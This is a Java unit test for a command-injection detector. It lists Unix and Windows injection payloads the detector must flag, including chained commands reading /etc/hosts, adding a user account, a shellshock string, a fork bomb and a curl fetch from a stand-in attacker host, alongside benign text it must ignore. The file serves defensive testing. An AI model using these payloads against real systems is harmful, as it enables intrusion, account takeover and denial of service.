package dev.warden.detect.cmdi;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.detect.Finding;
import dev.warden.extract.Input;
import dev.warden.extract.Source;
import dev.warden.normalize.Normalizer;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandInjectionDetectorTest {

  private final CommandInjectionDetector detector = new CommandInjectionDetector();

  private Optional<Finding> inspect(String value) {
    for (String v : Normalizer.standard().variants(value)) {
      Optional<Finding> f = detector.inspect(Input.value(Source.QUERY, "query.host", v));
      if (f.isPresent()) {
        return f;
      }
    }
    return Optional.empty();
  }

  @ParameterizedTest
  @CsvSource(delimiter = '~', value = {
    "127.0.0.1; id~command-chain",
    "x|/bin/cat /etc/hosts~command-chain",
    "a && whoami~command-chain",
    "x' || sleep 10~command-chain",
    "host.example%0Auname -a~command-chain",
    "\" ; w'h'o'am'i~command-chain",
    "; w\\hoami~command-chain",
    "; c$@at /etc/hosts~command-chain",
    "1.2.3.4;cat${IFS}/etc/hosts~command-chain",
    "& dir C:\\~command-chain",
    "| type C:\\boot.ini~command-chain",
    "; net user bob s3cret /add~command-chain",
    "$(curl -s evil.example)~command-substitution",
    "`id`~command-substitution",
    "x$(sleep 5)~command-substitution",
    "cat /etc/hosts~bare-command",
    "ls -la /tmp~bare-command",
    "ping -c 3 10.0.0.1~bare-command",
    "whoami~bare-command",
    "{,ifconfig}~bare-command",
    "/???/??t /???/h?sts~bare-command",
    "!-1!-2~bare-command",
    "$[7*7]~command-substitution",
    "() { :; }; echo pwned~shellshock",
    ":(){ :|:& };:~shell-function",
    "cmd /c calc~windows-command",
    "FOR /F %i IN ('dir') DO echo %i~windows-command",
    "IF EXIST C:\\x.txt (echo yes)~windows-command",
    "system('uname -a')~exec-call",
    "<!--#exec cmd=\"ls\"-->~exec-call",
  })
  void inspect_attackShape_firesRule(String value, String rule) {
    assertThat(inspect(value)).hasValueSatisfying(f -> assertThat(f.rule()).isEqualTo(rule));
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "red;$5 each", "time express", "Does the * shine bright?", "Tom & Jerry; cats & dogs",
    "I'll cat-sit on Sunday; then sleep.", "Type your name | Date of birth", "| Name | Type |",
    "C Shell (csh)", "Perl 6", "Python is great", "See `git` for details", "https://example.com/bin/ls",
    "ID: 42; Name: Ann", "echo chamber", "Find us at the market", "Set the table & eat",
    "O'Reilly's \"Learning the bash Shell\"", "{\"cmd\": \"start\", \"id\": 7}",
    "if you want, try it", "For you in (my) heart, do smile", "[sh](https://github.com/amoffat/sh) - subprocess",
    "rock & roll; who cares?", "Wow!!", "!1", "Costs $[see table]", "~ +", "Mr. Smith (ret.) & sons", "1 | 2 | 3", "a || b",
  })
  void inspect_benignProse_noFinding(String value) {
    assertThat(inspect(value)).isEmpty();
  }

  @Test
  void inspect_hostileHugeInputs_boundedAndNeverThrows() {
    String[] units = {"'", "\"", "`", "$(", "${", "${IFS}", ";", "|", "&&", "(", ")", "() {", "[",
        "\\", "$@", "; id", "for %a in (", "if ", "system(", "<!--#exec", "{a,", "\ud800", "\0", "/?"};
    dev.warden.testing.Megabytes.assertBounded(detector, units);
  }
}
